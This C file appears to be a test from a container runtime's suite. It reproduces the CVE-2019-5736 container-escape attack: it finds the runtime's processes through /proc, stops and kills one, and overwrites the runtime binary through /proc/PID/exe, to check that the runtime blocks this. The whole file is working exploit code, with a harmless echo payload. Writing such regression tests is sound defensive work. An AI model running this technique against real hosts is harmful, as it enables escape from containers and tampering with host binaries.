/* exe_overwrite.c -- run inside a container by tests/oci_lifecycle.sh: the
 * attack on the runtime's binary (CVE-2019-5736) that II.8 of oci.c stops.
 * For up to 20 s it looks through /proc for processes whose executable's
 * name (or argv[0]) holds "contained-oci" (the runtime's container init or exec's
 * process before they exec; or, with an image program whose first line is
 * "#!/proc/self/exe", the runtime started again inside), stops one, opens
 * its /proc/PID/exe and, once the binary is no longer running, opens that
 * for writing and writes over it.  Says what happened on stdout, one line
 * per process found: "denied: ERR" (/proc/PID/exe closed to it),
 * "refused: ERR" (the file would not open for writing) or "OVERWROTE".
 *
 * Part of contained.  SPDX-License-Identifier: GPL-3.0-or-later */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

int main(void)
{
	static const char payload[] = "#!/bin/sh\necho overwritten from a container\n";
	time_t end = time(NULL) + 20;
	setvbuf(stdout, NULL, _IOLBF, 0);
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			char path[64], link[4096], self[64];
			if (pid <= 0 || pid == getpid())
				continue;
			/* its name: where exe points, or (that being closed to
			 * us too) its argv[0] */
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			ssize_t n = readlink(path, link, sizeof link - 1);
			if (n < 0) {
				snprintf(self, sizeof self, "/proc/%d/cmdline", pid);
				FILE *f = fopen(self, "re");
				n = f ? (ssize_t)fread(link, 1, sizeof link - 1, f) : -1;
				if (f)
					fclose(f);
			}
			if (n < 0)
				continue;
			link[n] = '\0';
			if (!strstr(link, "contained-oci"))
				continue;
			kill(pid, SIGSTOP);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0) {
				static int said[64];  /* once per process */
				bool seen = false;
				for (int i = 0; i < 64; i++)
					seen |= said[i] == pid;
				if (!seen)
					said[pid % 64] = pid, printf("denied: %s (%s)\n", strerror(errno), link);
				kill(pid, SIGCONT);
				continue;
			}
			/* found by argv[0], it may have exec'd something else meanwhile */
			snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
			n = readlink(self, link, sizeof link - 1);
			link[n > 0 ? n : 0] = '\0';
			if (!strstr(link, "contained-oci")) {
				kill(pid, SIGCONT);
				close(fd);
				continue;
			}
			kill(pid, SIGKILL);
			for (int tries = 0; tries < 10000; tries++) {
				int w = open(self, O_WRONLY | O_TRUNC);
				if (w >= 0 && write(w, payload, sizeof payload - 1) > 0) {
					printf("OVERWROTE %s\n", link);
					return 0;
				}
				if (w >= 0 || errno != ETXTBSY) {
					printf("refused: %s (%s)\n", strerror(errno), link);
					break;
				}
				usleep(1000);
			}
			close(fd);
		}
		if (d)
			closedir(d);
	}
	return 0;
}
